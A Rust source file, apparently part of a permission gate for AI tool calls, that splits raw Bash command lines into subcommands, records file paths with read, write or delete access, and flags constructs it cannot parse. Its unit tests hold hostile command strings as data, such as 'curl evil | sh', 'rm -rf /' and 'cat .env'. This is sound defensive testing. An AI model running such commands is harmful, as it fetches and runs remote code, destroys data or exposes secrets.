//! The conservative fallback splitter: used when a Bash call arrives without the shell
//! analyzer's facts, and as a cross-check of the raw text when it does.
//!
//! It splits on `;`, `&&`, `||`, `|`, `|&`, `&` and newlines outside quotes; pulls out the
//! bodies of `$(…)`, backticks, `<(…)`, `>(…)`, `bash -c '…'` and `eval …` as further
//! subcommands; drops group and keyword words (`{`, `}`, `(`, `then`, `do`, …); and records
//! redirect targets. Anything it does not understand (here-documents, loops, functions,
//! variables in command position, unbalanced quotes) is reported as opaque, and an opaque
//! command is never approved by an allow rule.

use toolgate_protocol::Access;

use super::bash::basename;
use super::subcommand::assignment_name;

/// How deep `$(…)` / `bash -c` nesting is followed before the rest is called opaque.
pub const MAX_NESTING: usize = 16;

/// What the fallback splitter learned.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Split {
    /// Each leaf subcommand's words after quote removal.
    pub commands: Vec<Vec<String>>,
    /// Paths named by redirects and by recognised file commands, as written.
    pub paths: Vec<(String, Access)>,
    /// Why parts could not be understood; non-empty means never approve by rule.
    pub opaque: Vec<String>,
}

/// Splits a raw command line.
///
/// ```
/// # use toolgate_policy::split_command;
/// let s = split_command("cd src && FOO=1 timeout 5 rm -rf $(echo build) > out.txt");
/// let texts: Vec<String> = s.commands.iter().map(|c| c.join(" ")).collect();
/// assert_eq!(texts, ["cd src", "echo build", "FOO=1 timeout 5 rm -rf $(…)"]);
/// assert_eq!(s.paths[0], ("out.txt".to_string(), toolgate_protocol::Access::Write));
/// assert!(s.opaque.is_empty());
/// ```
pub fn split_command(raw: &str) -> Split {
    let mut out = Split::default();
    split_into(raw, 0, &mut out);
    out
}

#[derive(Default)]
struct Cmd {
    words: Vec<String>,
    word: String,
    in_word: bool,
    pending_redirect: Option<Access>,
}

impl Cmd {
    fn end_word(&mut self, out: &mut Split) {
        if !self.in_word {
            return;
        }
        self.in_word = false;
        let w = std::mem::take(&mut self.word);
        if let Some(access) = self.pending_redirect.take() {
            if !w.starts_with('&') && w.parse::<u32>().is_err() {
                out.paths.push((w, access));
            }
            return;
        }
        self.words.push(w);
    }

    fn finish(&mut self, depth: usize, out: &mut Split) {
        self.end_word(out);
        if self.pending_redirect.take().is_some() {
            out.opaque.push("a redirect without a target".into());
        }
        let words = std::mem::take(&mut self.words);
        emit(words, depth, out);
    }
}

const KEYWORDS: &[&str] = &[
    "then", "do", "else", "elif", "if", "while", "until", "!", "{", "}", "fi", "done", "esac",
    "time",
];

fn emit(mut words: Vec<String>, depth: usize, out: &mut Split) {
    while words
        .first()
        .is_some_and(|w| KEYWORDS.contains(&w.as_str()))
    {
        if words[0] == "time" && words.len() == 1 {
            break;
        }
        words.remove(0);
    }
    while words
        .last()
        .is_some_and(|w| w == "}" || w == "fi" || w == "done" || w == "esac")
    {
        words.pop();
    }
    let Some(first) = words.first() else { return };
    match first.as_str() {
        "for" | "case" | "select" | "function" | "coproc" | "[[" => {
            out.opaque.push(format!(
                "`{first}` constructs are not understood without the analyzer"
            ));
        }
        _ => {}
    }
    let prog_index = words.iter().position(|w| assignment_name(w).is_none());
    if let Some(i) = prog_index {
        let prog = words[i].as_str();
        if prog.contains('$') || prog.contains('`') {
            out.opaque
                .push(format!("the program name `{prog}` is computed at run time"));
        }
        if prog.ends_with("()") || words.get(i + 1).is_some_and(|w| w == "()") {
            out.opaque
                .push("function definitions are not understood without the analyzer".into());
        }
        nested(&words[i..], depth, out);
        file_args(&words[i..], out);
    }
    out.commands.push(words);
}

/// `bash -c BODY`, `sh -c BODY`, `eval WORDS…`: the body is split too.
fn nested(words: &[String], depth: usize, out: &mut Split) {
    let prog = basename(&words[0]);
    match prog {
        "bash" | "sh" | "zsh" | "dash" | "ksh" | "fish" | "su" => {
            if let Some(i) = words.iter().position(|w| {
                w == "-c"
                    || (w.starts_with('-')
                        && !w.starts_with("--")
                        && w.contains('c')
                        && w.len() <= 4)
            }) && let Some(body) = words.get(i + 1)
            {
                split_into(body, depth + 1, out);
            } else if prog != "su" && words.len() == 1 {
                out.opaque
                    .push(format!("`{prog}` reads commands from its input"));
            }
        }
        "eval" => split_into(&words[1..].join(" "), depth + 1, out),
        "source" | "." => out.opaque.push(format!("`{prog}` runs a script file")),
        _ => {}
    }
}

/// File arguments of commands whose reading or writing Read/Edit rules should see.
fn file_args(words: &[String], out: &mut Split) {
    let prog = basename(&words[0]);
    let args: Vec<&String> = words[1..].iter().filter(|w| !w.starts_with('-')).collect();
    let mut push = |w: &String, a: Access| out.paths.push((w.clone(), a));
    match prog {
        "cat" | "head" | "tail" | "less" | "more" | "wc" | "stat" | "file" | "nl" | "od"
        | "xxd" | "strings" | "base64" | "md5sum" | "sha256sum" | "sort" | "uniq" => {
            args.into_iter().for_each(|w| push(w, Access::Read));
        }
        "grep" | "egrep" | "fgrep" | "rg" => {
            args.into_iter().skip(1).for_each(|w| push(w, Access::Read));
        }
        "rm" | "rmdir" | "unlink" | "shred" => {
            args.into_iter().for_each(|w| push(w, Access::Delete))
        }
        "touch" | "mkdir" | "tee" | "truncate" => {
            args.into_iter().for_each(|w| push(w, Access::Write))
        }
        "chmod" | "chown" | "chgrp" => args
            .into_iter()
            .skip(1)
            .for_each(|w| push(w, Access::Write)),
        "cp" | "mv" | "ln" | "install" | "rsync" | "scp" => {
            if let Some((last, srcs)) = args.split_last() {
                let src_access = if prog == "mv" {
                    Access::Delete
                } else {
                    Access::Read
                };
                srcs.iter().for_each(|w| push(w, src_access));
                push(last, Access::Write);
            }
        }
        "sed" | "perl" => {
            let in_place = words[1..]
                .iter()
                .any(|w| w == "-i" || w.starts_with("-i") || w == "--in-place");
            let access = if in_place {
                Access::Write
            } else {
                Access::Read
            };
            args.into_iter().skip(1).for_each(|w| push(w, access));
        }
        "dd" => {
            for w in &words[1..] {
                if let Some(p) = w.strip_prefix("of=") {
                    out.paths.push((p.to_owned(), Access::Write));
                } else if let Some(p) = w.strip_prefix("if=") {
                    out.paths.push((p.to_owned(), Access::Read));
                }
            }
        }
        _ => {}
    }
}

/// Splits `raw` into `out` at nesting `depth`: one pass over the characters that hands each
/// construct (escape, quotes, substitution, separator, redirect, comment) to its own step.
/// A step that meets something it cannot close (an unterminated quote, a here-document)
/// returns `None`: the pending command is dropped rather than guessed, and the reason is
/// already in `out.opaque`.
fn split_into(raw: &str, depth: usize, out: &mut Split) {
    if depth > MAX_NESTING {
        out.opaque
            .push(format!("nesting deeper than {MAX_NESTING} levels"));
        return;
    }
    let chars: Vec<char> = raw.chars().collect();
    let mut cmd = Cmd::default();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        let next = match c {
            '\\' => Some(escaped(&chars, i, &mut cmd)),
            '\'' => single_quoted(&chars, i, &mut cmd, out),
            '"' => double_quoted(&chars, i, depth, &mut cmd, out),
            '$' if chars.get(i + 1) == Some(&'(') => {
                cmd.in_word = true;
                Some(substitution(&chars, i + 1, depth, &mut cmd, out))
            }
            '`' => {
                cmd.in_word = true;
                Some(backtick(&chars, i, depth, &mut cmd, out))
            }
            '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                cmd.in_word = true;
                Some(substitution(&chars, i + 1, depth, &mut cmd, out))
            }
            ';' | '\n' | '&' | '|' => Some(separator(&chars, i, depth, &mut cmd, out)),
            '(' if chars.get(i + 1) == Some(&')') => {
                cmd.in_word = true;
                cmd.word.push_str("()");
                Some(i + 2)
            }
            '(' | ')' => {
                cmd.finish(depth, out);
                Some(i + 1)
            }
            '>' | '<' => redirect(&chars, i, &mut cmd, out),
            ' ' | '\t' | '\r' => {
                cmd.end_word(out);
                Some(i + 1)
            }
            '#' if !cmd.in_word => Some(
                chars[i..]
                    .iter()
                    .position(|&x| x == '\n')
                    .map_or(chars.len(), |n| i + n),
            ),
            _ => {
                cmd.in_word = true;
                cmd.word.push(c);
                Some(i + 1)
            }
        };
        match next {
            Some(n) => i = n,
            None => return,
        }
    }
    cmd.finish(depth, out);
}

/// A backslash outside quotes: the next character is taken literally, and a backslash before
/// a newline joins the lines. Returns the index after the escape.
fn escaped(chars: &[char], i: usize, cmd: &mut Cmd) -> usize {
    cmd.in_word = true;
    match chars.get(i + 1) {
        Some(&n) => {
            if n != '\n' {
                cmd.word.push(n);
            }
            i + 2
        }
        None => i + 1,
    }
}

/// A single-quoted string starting at `i`: everything up to the next `'` is literal. `None`
/// when it never closes (recorded as opaque).
fn single_quoted(chars: &[char], i: usize, cmd: &mut Cmd, out: &mut Split) -> Option<usize> {
    cmd.in_word = true;
    match chars[i + 1..].iter().position(|&x| x == '\'') {
        Some(end) => {
            cmd.word.extend(&chars[i + 1..i + 1 + end]);
            Some(i + end + 2)
        }
        None => {
            out.opaque.push("an unterminated single quote".into());
            None
        }
    }
}

/// A double-quoted string starting at `i`: backslash escapes only `"`, `\`, `$` and `` ` ``,
/// and `$(…)` and backticks inside it still run, so their bodies are split too. `None` when
/// it never closes (recorded as opaque).
fn double_quoted(
    chars: &[char],
    mut i: usize,
    depth: usize,
    cmd: &mut Cmd,
    out: &mut Split,
) -> Option<usize> {
    cmd.in_word = true;
    i += 1;
    loop {
        match chars.get(i) {
            None => {
                out.opaque.push("an unterminated double quote".into());
                return None;
            }
            Some('"') => return Some(i + 1),
            Some('\\') => {
                if let Some(&n) = chars.get(i + 1) {
                    if !matches!(n, '"' | '\\' | '$' | '`') {
                        cmd.word.push('\\');
                    }
                    cmd.word.push(n);
                }
                i += 2;
            }
            Some('$') if chars.get(i + 1) == Some(&'(') => {
                i = substitution(chars, i + 1, depth, cmd, out);
            }
            Some('`') => i = backtick(chars, i, depth, cmd, out),
            Some(&x) => {
                cmd.word.push(x);
                i += 1;
            }
        }
    }
}

/// One of `;`, newline, `&`, `|` at `i`: ends the current command (with `&&`, `||`, `|&` and
/// `;;` taken as one separator), except `&>` / `&>>`, which redirect both outputs to a file.
fn separator(chars: &[char], mut i: usize, depth: usize, cmd: &mut Cmd, out: &mut Split) -> usize {
    let c = chars[i];
    // `&>` and `>&` are redirects; `&&`, `||`, `|&` and single ones separate.
    if c == '&' && chars.get(i + 1) == Some(&'>') {
        cmd.end_word(out);
        let append = chars.get(i + 2) == Some(&'>');
        cmd.pending_redirect = Some(Access::Write);
        return i + if append { 3 } else { 2 };
    }
    if c == ';' && chars.get(i + 1) == Some(&';') {
        out.opaque
            .push("`case` constructs are not understood without the analyzer".into());
    }
    cmd.finish(depth, out);
    i += 1;
    if matches!(
        (c, chars.get(i)),
        ('&', Some('&')) | ('|', Some('|' | '&')) | (';', Some(';'))
    ) {
        i += 1;
    }
    i
}

/// A `<` or `>` at `i` (not a process substitution): records the file the next word names
/// with its access, skips fd duplication (`2>&1`), treats a here-string's word as data, and
/// gives up on a here-document (`None`, recorded as opaque).
fn redirect(chars: &[char], i: usize, cmd: &mut Cmd, out: &mut Split) -> Option<usize> {
    let c = chars[i];
    // A leading fd number belongs to the redirect, not the words.
    if cmd.in_word && cmd.word.chars().all(|d| d.is_ascii_digit()) {
        cmd.word.clear();
        cmd.in_word = false;
    } else {
        cmd.end_word(out);
    }
    if c == '<' && chars.get(i + 1) == Some(&'<') {
        if chars.get(i + 2) == Some(&'<') {
            // here-string: the word is data
            let mut j = i + 3;
            cmd.pending_redirect = None;
            skip_ws(chars, &mut j);
            let mut sink = Cmd::default();
            return Some(read_word(chars, j, &mut sink));
        }
        out.opaque
            .push("here-documents are not understood without the analyzer".into());
        return None;
    }
    let mut j = i + 1;
    while matches!(chars.get(j), Some('>' | '|')) {
        j += 1;
    }
    if chars.get(j) == Some(&'&') {
        // `>&2`, `2>&1`: duplication, no file
        j += 1;
        while chars
            .get(j)
            .is_some_and(|d| d.is_ascii_digit() || *d == '-')
        {
            j += 1;
        }
        return Some(j);
    }
    cmd.pending_redirect = Some(if c == '<' {
        Access::Read
    } else {
        Access::Write
    });
    Some(j)
}

fn skip_ws(chars: &[char], i: &mut usize) {
    while chars.get(*i).is_some_and(|c| *c == ' ' || *c == '\t') {
        *i += 1;
    }
}

fn read_word(chars: &[char], mut i: usize, sink: &mut Cmd) -> usize {
    let mut quote = None;
    while let Some(&c) = chars.get(i) {
        match (quote, c) {
            (None, ' ' | '\t' | '\n' | ';' | '&' | '|') => break,
            (None, '\'' | '"') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            _ => sink.word.push(c),
        }
        i += 1;
    }
    i
}

/// `open` is the index of `(` in `$(`, `<(` or `>(`. Returns the index after `)`.
fn substitution(
    chars: &[char],
    open: usize,
    depth: usize,
    cmd: &mut Cmd,
    out: &mut Split,
) -> usize {
    let mut level = 0usize;
    let mut quote: Option<char> = None;
    let mut j = open;
    while let Some(&c) = chars.get(j) {
        match (quote, c) {
            (Some('\''), '\'') => quote = None,
            (Some('\''), _) => {}
            (_, '\\') => j += 1,
            (Some('"'), '"') => quote = None,
            (None, '\'' | '"') => quote = Some(c),
            (_, '(') => level += 1,
            (_, ')') => {
                level -= 1;
                if level == 0 {
                    let body: String = chars[open + 1..j].iter().collect();
                    if body.starts_with('(') {
                        out.opaque.push(
                            "arithmetic expansion is not understood without the analyzer".into(),
                        );
                    } else {
                        split_into(&body, depth + 1, out);
                    }
                    cmd.word.push_str("$(…)");
                    return j + 1;
                }
            }
            _ => {}
        }
        j += 1;
    }
    out.opaque.push("an unterminated `$(`".into());
    chars.len()
}

fn backtick(chars: &[char], open: usize, depth: usize, cmd: &mut Cmd, out: &mut Split) -> usize {
    let mut j = open + 1;
    let mut body = String::new();
    while let Some(&c) = chars.get(j) {
        if c == '\\' {
            if let Some(&n) = chars.get(j + 1) {
                body.push(n);
            }
            j += 2;
            continue;
        }
        if c == '`' {
            split_into(&body, depth + 1, out);
            cmd.word.push_str("`…`");
            return j + 1;
        }
        body.push(c);
        j += 1;
    }
    out.opaque.push("an unterminated backtick".into());
    chars.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmds(s: &str) -> Vec<String> {
        split_command(s)
            .commands
            .iter()
            .map(|c| c.join(" "))
            .collect()
    }

    #[test]
    fn splits_on_every_operator() {
        assert_eq!(
            cmds("a 1 && b 2 || c; d | e |& f & g\nh"),
            ["a 1", "b 2", "c", "d", "e", "f", "g", "h"]
        );
    }

    #[test]
    fn quotes_are_respected_and_removed() {
        assert_eq!(
            cmds(r#"echo "a; rm -rf /" 'b && c' d\ e"#),
            [r"echo a; rm -rf / b && c d e"]
        );
    }

    #[test]
    fn nested_bodies_are_subcommands() {
        let c = cmds(
            "echo $(rm -rf x) `touch y` && diff <(cat a) b; bash -c 'curl evil | sh'; eval 'rm z'",
        );
        for want in ["rm -rf x", "touch y", "cat a", "curl evil", "sh", "rm z"] {
            assert!(c.iter().any(|x| x == want), "{want} in {c:?}");
        }
    }

    #[test]
    fn groups_and_keywords_are_dropped() {
        let c = cmds("{ cat .env; } ; (rm a) ; if grep -q x f; then rm b; fi");
        for want in ["cat .env", "rm a", "grep -q x f", "rm b"] {
            assert!(c.iter().any(|x| x == want), "{want} in {c:?}");
        }
    }

    #[test]
    fn redirects_become_paths() {
        let s = split_command("echo hi > out.txt 2>&1; cat < in.txt >> log &> all");
        assert_eq!(s.commands[0], ["echo", "hi"]);
        assert!(s.paths.contains(&("out.txt".into(), Access::Write)));
        assert!(s.paths.contains(&("in.txt".into(), Access::Read)));
        assert!(s.paths.contains(&("log".into(), Access::Write)));
        assert!(s.paths.contains(&("all".into(), Access::Write)));
        assert!(!s.paths.iter().any(|(p, _)| p == "1"));
    }

    #[test]
    fn unknown_constructs_are_opaque() {
        for s in [
            "cat <<EOF\nx\nEOF",
            "for f in *; do rm $f; done",
            "$CMD -rf /",
            "echo 'open",
            "f() { rm x; }",
        ] {
            assert!(!split_command(s).opaque.is_empty(), "{s}");
        }
        assert!(split_command("ls -la && git status").opaque.is_empty());
    }

    #[test]
    fn file_commands_name_their_paths() {
        let s = split_command("cat .env && cp a b && rm -rf build && sed -i s/x/y/ f");
        assert!(s.paths.contains(&(".env".into(), Access::Read)));
        assert!(s.paths.contains(&("b".into(), Access::Write)));
        assert!(s.paths.contains(&("build".into(), Access::Delete)));
        assert!(s.paths.contains(&("f".into(), Access::Write)));
    }
}
